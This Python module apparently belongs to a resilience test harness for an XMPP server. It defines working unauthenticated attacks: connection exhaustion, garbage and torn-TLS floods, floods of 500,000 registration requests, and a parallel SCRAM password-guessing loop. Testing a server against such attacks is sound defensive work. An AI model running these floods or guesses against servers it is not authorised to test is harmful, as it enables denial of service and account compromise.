"""Attacks that need no account."""

import asyncio
import base64
import os
import re
from collections.abc import Iterator

from .attacker import Attacker, Line, outcomes

FORM = b"<iq type='get' id='%d'><query xmlns='jabber:iq:register'/></iq>"
CLIENT_HELLO = bytes.fromhex("16030100f8010000f40303")  # the rest never comes
LOGIN = b"<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='SCRAM-SHA-1'>%s</auth>"
RESPONSE = b"<response xmlns='urn:ietf:params:xml:ns:xmpp-sasl'>%s</response>"
ANSWER = re.compile(
    rb"<challenge[^>]*>(?P<challenge>[^<]+)</challenge>|<failure.*?</failure>(?P<end><stream:error.*)?", re.DOTALL
)


async def half_open(attacker: Attacker) -> str:
    """3000 connections that say nothing."""
    lines = await attacker.lines(3000)
    for line in lines:
        line.closes()
    return f"{len(lines)} were held"


async def garbage(attacker: Attacker) -> str:
    """2000 connections with random bytes."""
    lines: list[Line] = []
    for _ in range(20):
        some = await attacker.lines(100)
        for line in some:
            line.send(os.urandom(512))
        await outcomes(some)
        lines += some
    return await outcomes(lines)


async def torn_handshakes(attacker: Attacker) -> str:
    """500 TLS handshakes that begin and stop."""
    lines = [await attacker.in_clear() for _ in range(500)]
    for line in lines:
        line.send(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
    for line in lines:
        line.send(CLIENT_HELLO + os.urandom(64))
        line.closes()
    return "closed by the client"


async def forms_unread(attacker: Attacker) -> str:
    """In-band registration's form, asked for 500 000 times by one who reads no answer."""
    line = await attacker.in_clear()
    sent = await line.floods(_joined(FORM, 500_000))
    return f"{await line.outcome()} after {sent >> 10} KiB"


async def forms(attacker: Attacker) -> str:
    """The same by one who reads."""
    line = await attacker.in_clear()
    line.listens()
    sent = await line.floods(_joined(FORM, 500_000))
    return f"{await line.outcome()} after {sent >> 10} KiB"


async def new_names(attacker: Attacker) -> str:
    """The form again, with a name in each request that was not there before."""
    line = await attacker.in_clear()
    line.listens()
    form = b"<iq type='get' id='1'><query xmlns='jabber:iq:register'><n%d/></query></iq>"
    sent = await line.floods(_joined(form, 500_000))
    return f"{await line.outcome()} after {sent >> 10} KiB"


async def guesses(attacker: Attacker) -> str:
    """60 wrong passwords for one account, on 20 connections at once."""
    lines = [await attacker.in_clear() for _ in range(20)]
    await asyncio.gather(*(_guess(line) for line in lines))
    return await outcomes(lines)


async def _guess(line: Line) -> None:
    """Guess until the stream is ended."""
    nonce = b"0123456789abcdef"
    proof = base64.b64encode(bytes(20))
    while not line.ended:
        line.send(LOGIN % base64.b64encode(b"n,,n=bystander,r=" + nonce))
        found = await line.hears(ANSWER)
        if found["challenge"] is None:
            return
        server = re.match(rb"r=([^,]+)", base64.b64decode(found["challenge"]))
        assert server is not None
        line.send(RESPONSE % base64.b64encode(b"c=biws,r=%b,p=%b" % (server[1], proof)))
        if (await line.hears(ANSWER))["end"] is not None:
            return


def _joined(form: bytes, count: int, together: int = 500) -> Iterator[bytes]:
    """Yield requests, many in one piece."""
    for start in range(0, count, together):
        yield b"".join(form % number for number in range(start, start + together))


ATTACKS = (half_open, garbage, torn_handshakes, forms_unread, forms, new_names)
LAST = (guesses,)
"""Attacks that leave the attacker's address locked out."""
